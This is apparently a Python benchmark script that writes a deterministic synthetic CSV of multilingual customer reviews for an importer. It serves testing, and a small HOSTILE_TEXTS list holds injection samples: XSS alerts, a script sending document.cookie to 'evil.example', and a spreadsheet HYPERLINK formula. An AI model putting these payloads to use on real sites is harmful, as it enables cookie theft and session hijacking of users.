"""Deterministic, realistic reviews CSV in the canonical import format (`reviews` kind).

Used by ``bench/import_reviews.py``; also runnable on its own::

    .venv/bin/python bench/generate_reviews.py --rows 1000000 --out /tmp/reviews.csv

The file has the canonical columns (review_id, platform, rating, rating_scale, title, text, author,
posted_at, url, customer_id, language, product) plus one extra column, ``helpful_votes``, which the
importer keeps as an attribute. Texts are in English, Spanish, Russian and Romanian, their tone
follows the rating, lengths vary from a few words to several paragraphs, and some need CSV quoting
(commas, double quotes, embedded newlines) or carry HTML / ``<script>`` that must be stored as
plain text. The same ``rows`` and ``seed`` always give the same bytes.
"""

from __future__ import annotations

import argparse
import csv
import os
import random
import time
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path

COLUMNS: tuple[str, ...] = (
    "review_id",
    "platform",
    "rating",
    "rating_scale",
    "title",
    "text",
    "author",
    "posted_at",
    "url",
    "customer_id",
    "language",
    "product",
    "helpful_votes",
)

PLATFORMS: tuple[str, ...] = ("google", "trustpilot", "amazon", "tripadvisor")
PLATFORM_WEIGHTS: tuple[float, ...] = (0.35, 0.25, 0.25, 0.15)
ID_PREFIX: dict[str, str] = {
    "google": "GG",
    "trustpilot": "TP",
    "amazon": "AM",
    "tripadvisor": "TA",
}
URL_BASE: dict[str, str] = {
    "google": "https://maps.google.com/review/",
    "trustpilot": "https://www.trustpilot.com/reviews/",
    "amazon": "https://www.amazon.com/gp/customer-reviews/",
    "tripadvisor": "https://www.tripadvisor.com/ShowUserReviews-",
}

LANGUAGES: tuple[str, ...] = ("en", "es", "ru", "ro")
LANGUAGE_WEIGHTS: tuple[float, ...] = (0.45, 0.2, 0.15, 0.2)

RATINGS: tuple[int, ...] = (1, 2, 3, 4, 5)
RATING_WEIGHTS: tuple[float, ...] = (0.16, 0.07, 0.1, 0.2, 0.47)

# Tone of the text for each rating: negative, neutral or positive.
TONE_OF_RATING: dict[int, str] = {1: "neg", 2: "neg", 3: "neu", 4: "pos", 5: "pos"}

SENTENCES: dict[str, dict[str, tuple[str, ...]]] = {
    "en": {
        "pos": (
            "Great service, fast delivery and the package arrived in perfect condition.",
            "The support team answered within an hour and solved my problem straight away.",
            "Excellent quality for the price, I would definitely recommend it to my friends.",
            "Everything worked exactly as described.",
            "The staff were friendly, helpful and genuinely cared about what I needed.",
            "Second order this year and again no complaints at all, well done.",
            "Easy to order, easy to pay, and the courier called before coming.",
            "Honestly the best experience I have had with an online shop in years.",
            "Returns were painless: I printed the label and got my refund in three days.",
            "Good value, solid build, and it looks even better than in the photos.",
            "The room was clean, quiet and the breakfast was excellent.",
            "They remembered my name and my usual order, which was a nice touch.",
        ),
        "neu": (
            "The product is fine, nothing special but it does the job.",
            "Delivery took a bit longer than promised, otherwise okay.",
            "Average experience overall.",
            "Price is a little high for what you get, but the quality is decent.",
            "The instructions could be clearer, it took me a while to set it up.",
            "Customer service was polite, although I had to explain the issue twice.",
            "It is okay for everyday use, I expected slightly more for the money.",
            "The location is convenient, the rooms are small but clean.",
        ),
        "neg": (
            "The order arrived two weeks late and nobody answered my emails.",
            "Terrible quality, it broke after three days of normal use.",
            "I was charged twice and I am still waiting for the refund.",
            "Support kept closing my ticket without solving anything.",
            "The item was damaged, the box was open and parts were missing.",
            "Never again, the worst customer service I have ever dealt with.",
            "They promised next-day delivery, it took nine days.",
            "The app keeps crashing when I try to pay, very frustrating.",
            "Rude staff, dirty room, and the air conditioning did not work.",
            "I cancelled my subscription, but they still charged me for another month.",
        ),
    },
    "es": {
        "pos": (
            "Servicio excelente, el pedido llegó antes de lo previsto y muy bien embalado.",
            "La atención al cliente fue rápida, amable y resolvieron todo en una llamada.",
            "Muy buena calidad por el precio, lo recomiendo sin dudarlo.",
            "Todo perfecto, repetiré.",
            "El personal fue muy atento y la habitación estaba impecable.",
            "Es mi tercera compra y nunca he tenido ningún problema.",
            "La devolución fue fácil y me reembolsaron el dinero en dos días.",
            "Me encanta, es incluso mejor que en las fotos.",
            "El envío fue gratis y el repartidor muy puntual.",
            "Una experiencia de compra sencilla, clara y sin sorpresas.",
        ),
        "neu": (
            "El producto está bien, aunque esperaba algo más por este precio.",
            "La entrega se retrasó un par de días, por lo demás correcto.",
            "Experiencia normal, ni buena ni mala.",
            "Las instrucciones son confusas, pero al final funciona.",
            "El hotel está bien situado, las habitaciones son algo pequeñas.",
            "Me atendieron con educación, aunque tardaron en responder.",
        ),
        "neg": (
            "El pedido llegó con tres semanas de retraso y nadie me dio explicaciones.",
            "Pésima calidad, se rompió a los pocos días de usarlo.",
            "Me cobraron dos veces y todavía estoy esperando el reembolso.",
            "El servicio de atención al cliente no contesta ni al teléfono ni al correo.",
            "El paquete llegó abierto y faltaban piezas.",
            "No vuelvo a comprar aquí, una experiencia muy decepcionante.",
            "Prometieron entrega en 24 horas y tardó más de una semana.",
            "La habitación estaba sucia y el personal fue muy maleducado.",
        ),
    },
    "ru": {
        "pos": (
            "Отличный сервис, доставка быстрая, всё пришло в целости и сохранности.",
            "Поддержка ответила за час и сразу решила мою проблему.",
            "Качество отличное за такую цену, рекомендую друзьям.",
            "Всё как в описании, спасибо!",
            "Очень вежливый персонал, номер чистый, завтрак вкусный.",
            "Заказываю уже не в первый раз, ни разу не подвели.",
            "Возврат оформили без проблем, деньги вернули за три дня.",
            "Выглядит даже лучше, чем на фотографиях.",
            "Курьер позвонил заранее и приехал точно ко времени.",
        ),
        "neu": (
            "Товар нормальный, но ничего особенного.",
            "Доставка задержалась на пару дней, в остальном всё в порядке.",
            "Цена немного завышена, хотя качество неплохое.",
            "Инструкция непонятная, пришлось разбираться самому.",
            "Обычный отель, удобное расположение, но маленькие номера.",
            "Оператор был вежлив, но пришлось объяснять всё дважды.",
        ),
        "neg": (
            "Заказ пришёл с опозданием на две недели, на письма никто не отвечал.",
            "Ужасное качество, сломалось через три дня.",
            "С меня списали деньги дважды, возврата жду до сих пор.",
            "Поддержка закрывает обращения, ничего не решив.",
            "Коробка была вскрыта, части не хватало.",
            "Больше никогда не буду здесь заказывать.",
            "Обещали доставку на следующий день, а привезли через девять дней.",
            "Грубый персонал, грязный номер, кондиционер не работал.",
        ),
    },
    "ro": {
        "pos": (
            "Servicii excelente, livrare rapidă și coletul a ajuns în stare perfectă.",
            "Echipa de suport a răspuns într-o oră și mi-a rezolvat problema imediat.",
            "Calitate foarte bună pentru acest preț, recomand cu încredere.",
            "Totul a fost exact cum era descris.",
            "Personalul a fost amabil, iar camera curată și liniștită.",
            "Este a treia comandă și de fiecare dată am fost mulțumit.",
            "Returul a fost simplu, am primit banii înapoi în două zile.",
            "Arată chiar mai bine decât în poze.",
            "Curierul a sunat înainte și a venit la ora stabilită.",
        ),
        "neu": (
            "Produsul este în regulă, dar nimic deosebit.",
            "Livrarea a întârziat câteva zile, în rest totul a fost bine.",
            "Prețul este puțin mare, deși calitatea este decentă.",
            "Instrucțiunile nu sunt foarte clare, dar până la urmă funcționează.",
            "Hotel bine poziționat, camerele sunt mici, dar curate.",
            "Operatorul a fost politicos, însă a trebuit să explic problema de două ori.",
        ),
        "neg": (
            "Comanda a ajuns cu două săptămâni întârziere și nimeni nu mi-a răspuns.",
            "Calitate foarte proastă, s-a stricat după trei zile.",
            "Mi-au luat banii de două ori și încă aștept rambursarea.",
            "Suportul închide tichetele fără să rezolve nimic.",
            "Coletul a venit deschis și lipseau piese.",
            "Nu mai comand niciodată de aici, o experiență dezamăgitoare.",
            "Au promis livrare a doua zi, a durat nouă zile.",
            "Personal nepoliticos, cameră murdară, aerul condiționat nu funcționa.",
        ),
    },
}

TITLES: dict[str, dict[str, tuple[str, ...]]] = {
    "en": {
        "pos": ("Excellent", "Highly recommended", "Great service", "Very happy", "Five stars"),
        "neu": ("It's okay", "Average", "Could be better", "Decent"),
        "neg": ("Very disappointed", "Avoid", "Late delivery", "Terrible support", "Never again"),
    },
    "es": {
        "pos": ("Excelente", "Muy recomendable", "Todo perfecto", "Muy contento"),
        "neu": ("Normal", "Correcto", "Podría mejorar"),
        "neg": ("Muy decepcionado", "No lo recomiendo", "Entrega tardía", "Pésimo servicio"),
    },
    "ru": {
        "pos": ("Отлично", "Рекомендую", "Прекрасный сервис", "Очень доволен"),
        "neu": ("Нормально", "Средне", "Могло быть лучше"),
        "neg": ("Разочарован", "Не рекомендую", "Долгая доставка", "Ужасная поддержка"),
    },
    "ro": {
        "pos": ("Excelent", "Recomand", "Servicii foarte bune", "Foarte mulțumit"),
        "neu": ("Acceptabil", "Mediu", "Se poate mai bine"),
        "neg": ("Foarte dezamăgit", "Nu recomand", "Livrare întârziată", "Suport groaznic"),
    },
}

FIRST_NAMES: dict[str, tuple[str, ...]] = {
    "en": ("James", "Emma", "Oliver", "Sophie", "Michael", "Grace", "Daniel", "Chloe", "Ryan"),
    "es": ("María", "José", "Lucía", "Javier", "Carmen", "Alejandro", "Sofía", "Pablo"),
    "ru": ("Анна", "Дмитрий", "Екатерина", "Сергей", "Ольга", "Алексей", "Наталья", "Иван"),
    "ro": ("Andreea", "Mihai", "Ioana", "Alexandru", "Elena", "Ștefan", "Cristina", "Răzvan"),
}
LAST_INITIALS: dict[str, str] = {
    "en": "ABCDEFGHJKLMNPRSTW",
    "es": "ABCDFGLMNPRSTV",
    "ru": "АБВГДЕКЛМНПРСТ",
    "ro": "ABCDFGIMNPRSȘTȚV",
}

PRODUCTS: tuple[str, ...] = (
    "Wireless Earbuds Pro",
    "Smart Kettle 1.7L",
    "Running Shoes X2",
    "Standing Desk 140",
    "Coffee Grinder Mini",
    "Yoga Mat Eco",
    "Robot Vacuum S5",
    "Hotel Central Plaza",
    "Double Room, Sea View",
    "Family Suite",
    "Premium Subscription",
    "Basic Plan",
    "Gift Card 50 EUR",
    "Backpack 30L",
    "LED Desk Lamp",
    "Phone Case (black)",
    "Winter Jacket",
    "Electric Toothbrush",
)

# Rare texts that stress quoting and sanitising: HTML and script must be kept as inert text.
HOSTILE_TEXTS: tuple[str, ...] = (
    "<script>alert('xss')</script> Great product!",
    'Nice shop <img src=x onerror="alert(1)"> would buy again',
    '<b>Worst</b> delivery <i>ever</i>, see <a href="https://example.com">photos</a>',
    "Fine.</td></tr><script>document.location='https://evil.example/'+document.cookie</script>",
    '=HYPERLINK("https://evil.example","click") spreadsheet formula in a review',
)

QUOTE_SNIPPETS: dict[str, tuple[str, ...]] = {
    "en": (
        'The box said "fragile", but it was thrown on the doorstep.',
        'They call it "express delivery", it took a week.',
        'My 5" tablet fits, the 7" one does not.',
    ),
    "es": ('El vendedor dijo "mañana llega", y no llegó.', 'Lo llaman "envío exprés".'),
    "ru": ('Написано "в наличии", а на деле нет.', 'Это называют "экспресс-доставкой".'),
    "ro": ('Au scris "livrare gratuită", dar am plătit transportul.', 'Zic că e "premium".'),
}

START_DATE = date(2022, 1, 1)
DAYS = 4 * 365


def reviews_csv_path(workdir: Path, rows: int, seed: int = 1) -> Path:
    """Where the cached file for ``rows`` and ``seed`` lives inside ``workdir``."""
    return workdir / f"reviews-{rows}-{seed}.csv"


def ensure_reviews_csv(workdir: Path, rows: int, seed: int = 1) -> tuple[Path, float | None]:
    """Return the cached file for ``rows``/``seed``, generating it when missing.

    The second item is the generation time in seconds, or ``None`` when the cached file was reused.
    Files are written under a temporary name and renamed, so an existing file is always complete.
    """
    path = reviews_csv_path(workdir, rows, seed)
    if path.is_file():
        return path, None
    workdir.mkdir(parents=True, exist_ok=True)
    started = time.perf_counter()
    write_reviews_csv(path, rows, seed)
    return path, time.perf_counter() - started


def write_reviews_csv(path: Path, rows: int, seed: int = 1) -> Path:
    """Write ``rows`` reviews to ``path`` (overwriting it) and return ``path``.

    Deterministic: the same ``rows`` and ``seed`` give a byte-identical file.
    """
    if rows < 0:
        raise ValueError("rows must be >= 0")
    path = Path(path)
    tmp = path.with_name(f".{path.name}.{os.getpid()}.tmp")
    try:
        with tmp.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle, lineterminator="\n")
            writer.writerow(COLUMNS)
            batch: list[tuple[str, ...]] = []
            for row in _rows(rows, seed):
                batch.append(row)
                if len(batch) >= 10_000:
                    writer.writerows(batch)
                    batch.clear()
            writer.writerows(batch)
        tmp.replace(path)
    finally:
        tmp.unlink(missing_ok=True)
    return path


def _rows(rows: int, seed: int) -> Iterator[tuple[str, ...]]:
    rng = random.Random(seed)
    digits = max(7, len(str(rows)))

    # Whole columns drawn up front: far faster than one call per field per row.
    platforms = rng.choices(PLATFORMS, PLATFORM_WEIGHTS, k=rows)
    languages = rng.choices(LANGUAGES, LANGUAGE_WEIGHTS, k=rows)
    ratings = rng.choices(RATINGS, RATING_WEIGHTS, k=rows)
    day_offsets = rng.choices(range(DAYS), k=rows)
    minutes = rng.choices(range(24 * 60), k=rows)
    sentence_counts = rng.choices(
        (1, 2, 3, 4, 5, 6, 8, 12), (0.5, 0.3, 0.1, 0.05, 0.02, 0.015, 0.01, 0.005), k=rows
    )
    votes = rng.choices(
        ("0", "1", "2", "3", "5", "8", "13", "40"),
        (0.7, 0.1, 0.06, 0.04, 0.04, 0.03, 0.02, 0.01),
        k=rows,
    )
    specials = [rng.random() for _ in range(rows)]

    dates = [(START_DATE + timedelta(days=d)).isoformat() for d in range(DAYS)]
    times = [f"T{m // 60:02d}:{m % 60:02d}:00Z" for m in range(24 * 60)]
    rating_text = [str(r) for r in range(6)]
    counters = dict.fromkeys(PLATFORMS, 0)
    names = {
        lang: [f"{first} {last}." for first in FIRST_NAMES[lang] for last in LAST_INITIALS[lang]]
        for lang in LANGUAGES
    }

    choice = rng.choice
    sample = rng.sample
    rand = rng.random
    for i in range(rows):
        platform = platforms[i]
        lang = languages[i]
        rating = ratings[i]
        tone = TONE_OF_RATING[rating]
        counters[platform] += 1
        review_id = f"{ID_PREFIX[platform]}-{counters[platform]:0{digits}d}"

        pool = SENTENCES[lang][tone]
        sentences = sample(pool, min(sentence_counts[i], len(pool)))
        special = specials[i]
        if special < 0.03:
            # Multi-paragraph review: embedded newlines that need quoting.
            text = "\n".join(sentences) if special < 0.02 else "\n\n".join(sentences)
        elif special < 0.05:
            text = " ".join([*sentences, choice(QUOTE_SNIPPETS[lang])])
        elif special < 0.051:
            text = choice(HOSTILE_TEXTS)
        elif special < 0.055:
            text = ""  # rating-only review
        else:
            text = " ".join(sentences)

        title = "" if platform == "google" else choice(TITLES[lang][tone])
        posted_at = dates[day_offsets[i]]
        if rand() >= 0.08:
            posted_at += times[minutes[i]]
        author = choice(names[lang]) if rand() >= 0.05 else ""
        url = URL_BASE[platform] + review_id if rand() >= 0.1 else ""
        customer_id = f"C-{rng.randrange(200_000):06d}" if rand() < 0.05 else ""
        language = lang if rand() >= 0.15 else ""
        product = choice(PRODUCTS) if rand() >= 0.1 else ""
        yield (
            review_id,
            platform,
            rating_text[rating],
            "5" if rand() >= 0.1 else "",
            title,
            text,
            author,
            posted_at,
            url,
            customer_id,
            language,
            product,
            votes[i],
        )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--rows", type=int, default=1_000_000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--out", type=Path, required=True, help="CSV file to write")
    args = parser.parse_args()
    started = time.perf_counter()
    path = write_reviews_csv(args.out, args.rows, args.seed)
    elapsed = time.perf_counter() - started
    size_mb = path.stat().st_size / 1e6
    print(f"wrote {args.rows:,} rows, {size_mb:,.1f} MB to {path} in {elapsed:.1f} s")


if __name__ == "__main__":
    main()
